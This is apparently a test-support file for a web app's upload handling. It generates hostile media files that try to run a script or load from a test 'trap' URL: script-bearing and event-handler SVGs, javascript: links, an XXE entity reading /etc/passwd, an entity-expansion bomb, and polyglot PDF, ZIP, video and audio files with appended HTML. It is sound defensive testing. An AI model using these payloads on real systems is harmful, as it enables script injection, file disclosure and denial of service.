import { MEDIA_FILES } from "../../support/media-files";
import { createCarriers } from "./hostile-bytes";

/** `type` is the content type with which a file is saved and sent. */
export type HostileMedia = Record<string, { bytes: Buffer; type: string }>;

const ascii = (text: string) => Buffer.from(text, "latin1");
const SIZE = 'xmlns="http://www.w3.org/2000/svg" width="64" height="64"';

/**
 * Returns files of known formats that try to run a script, or to load something from the URL `trap`. A script that runs also
 * sets the title of the page to "ran". The app saves these files like any other file.
 */
export async function createHostileMedia(trap: string): Promise<HostileMedia> {
  const script = `document.title='ran';fetch('${trap}/ran',{mode:'no-cors'})`;
  const page = `<!doctype html><script>${script}</script>`;
  return { ...listDrawings(trap, script), ...(await listPolyglots(script, page)) };
}

function listDrawings(trap: string, script: string): HostileMedia {
  const xhtml = `<img xmlns="http://www.w3.org/1999/xhtml" src="${trap}/inside" onerror="${script}"/>`;
  const drawings: Record<string, string> = {
    "with a script": `<script>${script}</script>`,
    "with a script from elsewhere": `<script href="${trap}/script.js"/><script xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${trap}/script.js"/>`,
    "with HTML inside": `<foreignObject width="64" height="64">${xhtml}<iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}/frame"/></foreignObject>`,
    "with images from elsewhere": `<image href="${trap}/image.png" width="9" height="9"/><use href="${trap}/use.svg#a"/>`,
    "with styles from elsewhere": `<style>@import url(${trap}/style.css);@font-face{font-family:a;src:url(${trap}/font)}text{font-family:a;fill:url(${trap}/fill#a)}</style><text y="9">a</text>`,
    "with events": `<rect width="9" height="9" onload="${script}"/><image href="data:," onerror="${script}"/><animate attributeName="x" dur="1ms" onbegin="${script}"/>`,
    "with a link to a script": `<a href="javascript:${script}"><set attributeName="href" to="javascript:${script}"/><rect width="64" height="64"/></a>`,
  };
  const bomb = Array.from({ length: 12 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`);
  const documents: Record<string, string> = {
    ...Object.fromEntries(
      Object.entries(drawings).map(([name, content]) => [`SVG ${name}`, `<svg ${SIZE}>${content}</svg>`]),
    ),
    "SVG that runs a script when it is loaded": `<svg ${SIZE} onload="${script}"><rect width="9" height="9"/></svg>`,
    "SVG with a stylesheet from elsewhere": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${trap}/style.xsl"?><?xml-stylesheet href="${trap}/style.css"?><svg ${SIZE}/>`,
    "SVG with a document type from elsewhere": `<!DOCTYPE svg SYSTEM "${trap}/svg.dtd" [<!ENTITY % a SYSTEM "${trap}/a">%a;<!ENTITY file SYSTEM "file:///etc/passwd">]><svg ${SIZE}><text>&file;</text></svg>`,
    "SVG of entities that grow": `<!DOCTYPE svg [<!ENTITY e0 "ten">${bomb.join("")}]><svg ${SIZE}><text>&e12;</text></svg>`,
  };
  return Object.fromEntries(
    Object.entries(documents).map(([name, text]) => [name, { bytes: ascii(text), type: "image/svg+xml" }]),
  );
}

/** Returns files that are valid in two formats. */
async function listPolyglots(script: string, page: string): Promise<HostileMedia> {
  const media = async (name: string) => (await MEDIA_FILES[name]?.make()) ?? Buffer.alloc(0);
  const free = ascii(`....free${page}`);
  free.writeUInt32BE(free.length);
  const pdf = ascii(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${script})>>>>endobj\n${page}\n%%EOF`,
  );
  return {
    ...(await createCarriers(script)),
    "MP4 with a page in a free box": { bytes: Buffer.concat([await media("MP4"), free]), type: "video/mp4" },
    "WebM with a page behind it": { bytes: Buffer.concat([await media("WebM"), ascii(page)]), type: "video/webm" },
    "WAV with a page behind it": { bytes: Buffer.concat([await media("WAV"), ascii(page)]), type: "audio/wav" },
    "GLB with a page behind it": { bytes: Buffer.concat([await media("GLB"), ascii(page)]), type: "model/gltf-binary" },
    "glTF with a page as its name": {
      bytes: ascii(JSON.stringify({ asset: { version: "2.0", generator: page } })),
      type: "model/gltf+json",
    },
    "PDF with a script": { bytes: pdf, type: "application/pdf" },
    "PDF that is also a ZIP": { bytes: Buffer.concat([pdf, await media("ZIP")]), type: "application/pdf" },
    "ZIP with a page behind it": { bytes: Buffer.concat([await media("ZIP"), ascii(page)]), type: "application/zip" },
    "bytes of no format, with a page": {
      bytes: Buffer.concat([Buffer.from([0, 1, 2, 3]), ascii(page)]),
      type: "application/octet-stream",
    },
  };
}
